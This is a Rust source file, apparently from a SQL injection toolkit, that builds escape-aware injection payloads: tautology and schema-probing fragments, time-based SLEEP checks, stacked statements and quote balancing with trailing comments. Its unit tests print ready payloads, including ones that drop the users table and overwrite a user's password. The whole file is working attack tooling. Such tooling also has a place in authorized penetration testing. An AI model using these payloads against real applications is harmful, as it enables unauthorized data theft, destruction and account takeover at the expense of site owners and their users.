//! Escape-aware injection payload assembly.

use tracing::debug;

use sqlforge_core::error::Result;
use sqlforge_core::expr::{field, AggregateFunction, Expr, Field};
use sqlforge_core::statement::{Select, Stmt};
use sqlforge_core::style::Style;

use crate::evasion::InjectionStyle;

/// A statement-like accumulator that assembles boolean-probe fragments and
/// stacked queries into an escape-aware exploit string.
///
/// Fragments are rendered as they are appended and are never reordered; the
/// final [`Injection::inject`] assembly is a pure function of the accumulated
/// state.
#[derive(Debug, Default)]
pub struct Injection {
    style: InjectionStyle,
    expressions: Vec<String>,
    stacked: Vec<String>,
}

impl Injection {
    /// Creates an empty injection using the default style.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Creates an empty injection using the given style.
    #[must_use]
    pub fn with_style(style: InjectionStyle) -> Self {
        Self {
            style,
            expressions: Vec::new(),
            stacked: Vec::new(),
        }
    }

    /// Appends a free-form, pre-rendered fragment.
    pub fn expression(&mut self, fragment: impl Into<String>) -> &mut Self {
        self.expressions.push(fragment.into());
        self
    }

    /// Compiles the given expressions, joins them with `AND` and appends the
    /// result as a single fragment.
    pub fn sql_and(&mut self, exprs: Vec<Expr>) -> Result<&mut Self> {
        self.joined(exprs, "AND")
    }

    /// Compiles the given expressions, joins them with `OR` and appends the
    /// result as a single fragment.
    pub fn sql_or(&mut self, exprs: Vec<Expr>) -> Result<&mut Self> {
        self.joined(exprs, "OR")
    }

    /// Appends the tautology probe `1 = 1`, matching all rows.
    pub fn all_rows(&mut self) -> Result<&mut Self> {
        self.push(Expr::int(1).eq(1))
    }

    /// Appends a probe that is only satisfiable when `table` exists:
    /// `(SELECT COUNT(*) FROM table) >= 0`.
    pub fn has_table(&mut self, table: &str) -> Result<&mut Self> {
        let count = Expr::aggregate(AggregateFunction::Count, vec![]);
        let probe = Expr::subquery(Select::new().field(count).from(table)).gt_eq(0);
        self.push(probe)
    }

    /// Appends a probe that only parses when `column` exists:
    /// `column IS NOT NULL`.
    pub fn has_field(&mut self, column: &str) -> Result<&mut Self> {
        self.push(field(column).is_not(Expr::null()))
    }

    /// Appends a probe that only parses when the vulnerable query reads from
    /// `table`: `table.id IS NOT NULL`.
    pub fn uses_table(&mut self, table: &str) -> Result<&mut Self> {
        let column = Expr::from(Field::prefixed(table, "id"));
        self.push(column.is_not(Expr::null()))
    }

    /// Appends a LIKE probe on the given column.
    pub fn like(&mut self, column: &str, pattern: &str) -> Result<&mut Self> {
        self.push(field(column).like(pattern))
    }

    /// Appends an IS probe on the given column.
    pub fn is(&mut self, column: &str, value: impl Into<Expr>) -> Result<&mut Self> {
        self.push(field(column).is(value))
    }

    /// Attaches a stacked secondary statement, compiled immediately.
    pub fn sql(&mut self, statement: impl Into<Stmt>) -> Result<&mut Self> {
        let rendered = statement.into().compile(&self.style)?;
        self.stacked.push(rendered);
        Ok(self)
    }

    fn push(&mut self, expr: Expr) -> Result<&mut Self> {
        let rendered = expr.compile(&self.style)?;
        self.expressions.push(rendered);
        Ok(self)
    }

    fn joined(&mut self, exprs: Vec<Expr>, connective: &str) -> Result<&mut Self> {
        if exprs.is_empty() {
            return Ok(self);
        }
        let keyword = self.style.keyword(connective);
        let rendered = exprs
            .into_iter()
            .map(|expr| expr.compile(&self.style))
            .collect::<Result<Vec<_>>>()?;
        self.expressions.push(rendered.join(&format!(" {keyword} ")));
        Ok(self)
    }

    /// Assembles the exploit string.
    ///
    /// Accumulated fragments are joined with `OR`; a trailing quote on the
    /// last joined fragment (or stacked statement) is chomped instead of
    /// leaving the payload unbalanced, and any remainder of the vulnerable
    /// query is commented out with `--`.
    #[must_use]
    pub fn inject(&self) -> String {
        let or = self.style.keyword("OR");
        let expr = self.expressions.join(&format!(" {or} "));
        let other = self.stacked.join("; ");

        debug!(
            fragments = self.expressions.len(),
            stacked = self.stacked.len(),
            "assembling injection payload"
        );

        if other.is_empty() {
            if expr.is_empty() {
                return String::from("'");
            }
            return if expr.ends_with('\'') {
                format!("' {or} {}", chomp_quote(&expr))
            } else {
                format!("' {or} {expr} --")
            };
        }

        if expr.is_empty() {
            return format!("'; {other} --");
        }

        if other.ends_with('\'') {
            format!("' {or} {expr}; {}", chomp_quote(&other))
        } else {
            format!("' {or} {expr}; {other} --")
        }
    }
}

/// Removes a single trailing quote.
fn chomp_quote(s: &str) -> &str {
    s.strip_suffix('\'').unwrap_or(s)
}

#[cfg(test)]
mod tests {
    use super::*;
    use sqlforge_core::statement::DropTable;

    #[test]
    fn test_empty_injection_is_a_lone_quote() {
        assert_eq!(Injection::new().inject(), "'");
    }

    #[test]
    fn test_all_rows_payload() {
        let mut injection = Injection::new();
        injection.all_rows().unwrap();
        let payload = injection.inject();
        assert_eq!(payload, "' OR 1 = 1 --");
        assert!(payload.starts_with("' OR"));
        assert!(payload.ends_with("--"));
    }

    #[test]
    fn test_fragments_keep_call_order() {
        let mut injection = Injection::new();
        injection.all_rows().unwrap();
        injection.has_field("password").unwrap();
        assert_eq!(
            injection.inject(),
            "' OR 1 = 1 OR password IS NOT NULL --"
        );
    }

    #[test]
    fn test_sql_and_joins_one_fragment() {
        let mut injection = Injection::new();
        injection
            .sql_and(vec![field("a").eq(1), field("b").eq(2)])
            .unwrap();
        assert_eq!(injection.inject(), "' OR a = 1 AND b = 2 --");
    }

    #[test]
    fn test_sql_and_fragment_keeps_its_boundary() {
        let mut injection = Injection::new();
        injection.all_rows().unwrap();
        injection
            .sql_and(vec![field("role").eq("admin"), field("active").eq(1)])
            .unwrap();
        assert_eq!(
            injection.inject(),
            "' OR 1 = 1 OR role = 'admin' AND active = 1 --"
        );
    }

    #[test]
    fn test_sql_or_compiles_each_expression() {
        let mut injection = Injection::new();
        injection
            .sql_or(vec![field("a").eq(1), field("b").eq(2)])
            .unwrap();
        assert_eq!(injection.inject(), "' OR a = 1 OR b = 2 --");
    }

    #[test]
    fn test_empty_expression_list_appends_nothing() {
        let mut injection = Injection::new();
        injection.sql_and(vec![]).unwrap();
        injection.sql_or(vec![]).unwrap();
        assert_eq!(injection.inject(), "'");
    }

    #[test]
    fn test_free_form_expression_fragment() {
        let mut injection = Injection::new();
        injection.expression("SLEEP(5)");
        assert_eq!(injection.inject(), "' OR SLEEP(5) --");
    }

    #[test]
    fn test_trailing_quote_is_chomped() {
        let mut injection = Injection::new();
        injection.like("name", "%admin%").unwrap();
        // The fragment ends in a quote: that quote is chomped instead of
        // leaving the payload unbalanced, and no comment is appended.
        assert_eq!(injection.inject(), "' OR name LIKE '%admin%");
    }

    #[test]
    fn test_stacked_statement_without_fragments() {
        let mut injection = Injection::new();
        injection.sql(DropTable::new("users")).unwrap();
        assert_eq!(injection.inject(), "'; DROP TABLE users --");
    }

    #[test]
    fn test_stacked_statement_with_fragments() {
        let mut injection = Injection::new();
        injection.all_rows().unwrap();
        injection.sql(DropTable::new("users")).unwrap();
        assert_eq!(injection.inject(), "' OR 1 = 1; DROP TABLE users --");
    }

    #[test]
    fn test_stacked_statement_ending_in_quote_is_chomped() {
        let mut injection = Injection::new();
        injection.all_rows().unwrap();
        injection
            .sql(sqlforge_core::statement::Update::new("users").set("password", "hunter2"))
            .unwrap();
        assert_eq!(
            injection.inject(),
            "' OR 1 = 1; UPDATE users SET password = 'hunter2"
        );
    }

    #[test]
    fn test_has_table_probe() {
        let mut injection = Injection::new();
        injection.has_table("users").unwrap();
        assert_eq!(
            injection.inject(),
            "' OR (SELECT COUNT(*) FROM users) >= 0 --"
        );
    }

    #[test]
    fn test_uses_table_probe() {
        let mut injection = Injection::new();
        injection.uses_table("users").unwrap();
        assert_eq!(injection.inject(), "' OR users.id IS NOT NULL --");
    }
}
